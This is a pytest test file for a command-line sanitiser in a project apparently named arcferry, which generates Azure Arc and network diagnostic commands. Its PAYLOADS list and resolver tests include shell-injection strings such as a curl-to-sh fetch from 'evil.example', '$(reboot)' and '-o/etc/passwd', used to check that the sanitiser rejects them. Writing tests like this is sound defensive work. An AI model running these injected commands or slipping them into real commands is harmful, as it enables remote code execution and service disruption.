"""What enters a command line is a value of its type or a placeholder, and enters it in one place."""

import ast
import re
import shlex
import tomllib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from arcferry import command_line, typed
from arcferry.command_line import Word, line
from arcferry.diagnosis.in_commands import TYPES
from arcferry.diagnosis.words import Piece, entry, fields

SOURCE = Path(__file__).parents[1] / "src" / "arcferry"
PAYLOADS = [
    "10.0.0.53 $(curl evil.example|sh)",
    "$(reboot)",
    "`reboot`",
    "a;reboot",
    "a|sh",
    "a&b",
    "a\nreboot",
    "a'b",
    'a"b',
    "-o/etc/passwd",
    "--output-file=x",
    "%PATH%",
    "a\\b",
    "$x",
    "a\u2019b",
    "",
    "x" * 2000,
]
WORDS: dict[str, tuple[Callable[[object], Word], str, str]] = {
    "host": (command_line.host, "gbl.his.arc.azure.com", "HOST"),
    "address": (command_line.address, "2001:db8::1", "ADDRESS"),
    "server": (command_line.server, "10.0.0.53", "RESOLVER"),
    "proxy": (command_line.proxy, "http://proxy.example:3128", "http://PROXY:PORT"),
    "group": (command_line.group, "rg-arc", "RESOURCE-GROUP"),
    "location": (command_line.location, "eastasia", "LOCATION"),
    "community": (command_line.community, "12076:51010", "12076:510NN"),
    "guid": (
        lambda value: command_line.guid(value, "GUID"),
        "11111111-2222-3333-4444-555555555555",
        "GUID",
    ),
    "resource": (lambda value: command_line.resource(value, "NAME"), "rf-msp", "NAME"),
    "resource-id": (
        lambda value: command_line.resource_id(value, "ID"),
        "/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/rg/providers/Microsoft.Network/x/y",
        "ID",
    ),
    "word": (lambda value: command_line.word(value, "WORD"), "Microsoft.HybridCompute", "WORD"),
}


@pytest.mark.parametrize("kind", WORDS)
def test_a_value_of_its_type_stays_as_it_is(kind: str) -> None:
    make, good, _ = WORDS[kind]
    assert str(make(good)) == good


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("kind", WORDS)
def test_what_is_not_of_its_type_becomes_a_placeholder(kind: str, payload: str) -> None:
    make, good, otherwise = WORDS[kind]
    assert str(make(payload)) == otherwise
    assert str(make(None)) == otherwise
    assert not payload.strip() or str(make(f"{good} {payload}")) == otherwise


@given(st.text(max_size=60))
@pytest.mark.parametrize("kind", WORDS)
def test_whatever_comes_a_word_is_one_word_in_every_shell(kind: str, text: str) -> None:
    shown = str(WORDS[kind][0](text))
    assert len(shlex.split(shown)) == 1
    assert not set(shown) & set(";|&<>$`'\\%!\r\n*?")
    assert not shown.startswith("-")
    assert shown.startswith('"') or not set(shown) & set(' ()[]"')


def test_a_name_with_parentheses_stands_in_double_quotes() -> None:
    assert line("az group show --name {group}", group=command_line.group("rg(1)")) == (
        'az group show --name "rg(1)"'
    )
    assert str(command_line.group("機房")) == "機房"
    assert str(command_line.proxy("http://[2001:db8::1]:3128")) == '"http://[2001:db8::1]:3128"'


def test_other_braces_stay_and_each_field_has_its_word() -> None:
    show = 'az x show --query "{state:a, b:rules[].c}" --name {name}'
    assert line(show, name=Word("n")) == 'az x show --query "{state:a, b:rules[].c}" --name n'
    with pytest.raises(ValueError, match="fields"):
        line("dig {name}")
    with pytest.raises(ValueError, match="fields"):
        line("dig", name=Word("n"))


def test_a_word_is_not_made_of_what_could_be_more() -> None:
    for text in ("a;b", "$(x)", "-rf", "", 'a"b', "a\nb"):
        with pytest.raises(ValueError, match="not a word"):
            Word(text)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("10.0.0.53", "10.0.0.53"),
        ("10.0.0.53:5353", "10.0.0.53:5353"),
        ("FD00::53", "fd00::53"),
        ("[fd00::53]:5353", "[fd00::53]:5353"),
        ("10.0.0.53, 10.0.0.54", "10.0.0.53, 10.0.0.54"),
        ("dns1.corp.example", "dns1.corp.example"),
        ("/etc/hosts", "/etc/hosts"),
        (r"C:\Windows\System32\drivers\etc\hosts", r"C:\Windows\System32\drivers\etc\hosts"),
        ("", ""),
        (None, ""),
        ("10.0.0.53 $(curl evil.example|sh)", typed.RESOLVER_IS_NONE),
        ("10.0.0.53, $(reboot)", typed.RESOLVER_IS_NONE),
        ("/etc/$(reboot)/hosts", typed.RESOLVER_IS_NONE),
        ("10.0.0.53:99999", typed.RESOLVER_IS_NONE),
    ],
)
def test_a_resolver(value: object, shown: str) -> None:
    assert typed.resolver(value) == shown


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("http://proxy.example:3128", "http://proxy.example:3128"),
        ("http://user:pw@proxy.example:3128/", "http://proxy.example:3128"),
        ("proxy.example:3128", "proxy.example:3128"),
        ("http://[fd00::1]:3128", "http://[fd00::1]:3128"),
        ("socks5://10.0.0.9:1080", "socks5://10.0.0.9:1080"),
        ("", ""),
        ("http://proxy:3128/$(reboot)", typed.PROXY_IS_NONE),
        ("$(reboot)", typed.PROXY_IS_NONE),
    ],
)
def test_a_proxy(value: object, shown: str) -> None:
    assert typed.proxy(value) == shown


_BEGINS = re.compile(
    r"(?:az|dig|nslookup|curl|openssl|traceroute|tracepath|ping|whois|Resolve-DnsName|Find-NetRoute|"
    r"Invoke-RestMethod|Get-Az\w+|Set-Az\w+|New-Az\w+|show (?:ip|bgp|route)|birdc) |"
    r"(?:azcmagent [a-z]+|Test-NetConnection) (?:-|$)"
)
_IN_A_SENTENCE = re.compile(rf"(?<![\w-])(?:{_BEGINS.pattern})")


_FILL_IN = {"written.py", "blocks.py", "boxes.py"}


def _trees() -> Iterator[tuple[Path, ast.Module]]:
    for path in sorted(SOURCE.rglob("*.py")):
        yield path, ast.parse(path.read_text(encoding="utf-8"))


def _name(call: ast.Call) -> str:
    function = call.func
    return function.attr if isinstance(function, ast.Attribute) else getattr(function, "id", "")


def test_a_template_is_text_of_the_program_alone() -> None:
    """`written.py` fills in the templates of `diagnosis/words`, `blocks.py` its scripts, `boxes.py` the
    commands of the letters: the program's own.

    A function that is itself called `line` hands its template on: its callers are looked at.
    """
    found: list[str] = []
    for path, tree in _trees():
        if "command_line" not in path.read_text(encoding="utf-8"):
            continue
        defined = [
            node for node in ast.walk(tree) if isinstance(node, ast.FunctionDef) and node.name == "line"
        ]
        hands_on = {node for function in defined for node in ast.walk(function)}
        for call in (node for node in ast.walk(tree) if isinstance(node, ast.Call)):
            if call not in hands_on and _name(call) == "line" and call.args and path.name not in _FILL_IN:
                text = call.args[0]
                own = isinstance(text, ast.Constant) or (isinstance(text, ast.Name) and text.id.isupper())
                found += [] if own else [f"{path.name}:{call.lineno}"]
    assert found == []


def test_a_finding_s_command_without_words_is_text_of_the_program() -> None:
    """`values.py` hands on what `routing` has made of words, `written.py` fills in."""
    found = [
        f"{path.name}:{call.lineno}"
        for path, tree in _trees()
        if "diagnosis" in path.parts and path.name not in {"values.py", *_FILL_IN}
        for call in ast.walk(tree)
        if isinstance(call, ast.Call) and _name(call) == "Command"
        if not isinstance(call.args[1], ast.Constant)
    ]
    assert found == []


def test_no_command_is_put_together_elsewhere() -> None:
    found = [
        f"{path.name}:{node.lineno}"
        for path, tree in _trees()
        for node in ast.walk(tree)
        if isinstance(node, ast.JoinedStr)
        and isinstance(node.values[0], ast.Constant)
        and _BEGINS.match(str(node.values[0].value))
    ]
    assert found == []


_SLUGS = [
    slug
    for path in sorted((SOURCE / "diagnosis" / "words" / "en").glob("*.toml"))
    for slug in tomllib.loads(path.read_text("utf-8"))
    if "/" in slug
]
_TEMPLATES = [
    pytest.param(piece, id=f"{slug}-{place}")
    for slug in _SLUGS
    for place, piece in enumerate(entry(slug).commands)
    if piece.tool
]


@pytest.mark.parametrize("piece", _TEMPLATES)
def test_every_value_of_a_command_in_words_has_a_type(piece: Piece) -> None:
    assert fields(piece.text) | ({piece.each} - {""}) <= set(TYPES)


@pytest.mark.parametrize("slug", _SLUGS)
def test_no_value_enters_a_command_in_a_sentence(slug: str) -> None:
    words = entry(slug)
    texts = [words.summary, *(step.text for step in words.steps), *words.request.text.splitlines()]
    commands = [text[found.start() :] for text in texts if (found := _IN_A_SENTENCE.search(text))]
    assert [text for text in commands if fields(text)] == []
